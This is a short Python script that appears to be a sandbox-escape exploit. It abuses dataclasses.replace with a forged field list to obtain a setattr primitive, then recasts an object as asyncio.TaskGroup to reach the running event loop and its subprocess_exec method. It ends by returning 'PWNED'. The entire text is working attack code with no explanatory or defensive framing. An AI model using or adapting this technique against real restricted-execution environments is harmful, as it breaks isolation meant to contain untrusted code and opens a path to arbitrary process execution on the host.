import asyncio
import dataclasses


class FakeField:
    def __init__(self, name):
        self.name = name
        self.init = True
        self.default = None
        self._field_type = None


got = {}


@dataclasses.dataclass(init=False)
class Duck:
    x: int = 0

    def __init__(self, **named):
        got.update(named)

    async def go(self):
        self._entered = False
        self._loop = None
        vars(self)["__dataclass_fields__"] = {"x": FakeField("__setattr__")}
        dataclasses.replace(self)
        got["__setattr__"]("__class__", asyncio.TaskGroup)
        await self.__aenter__()
        return self._loop


loop = asyncio.run(Duck().go())
return "PWNED " + repr(loop.subprocess_exec)
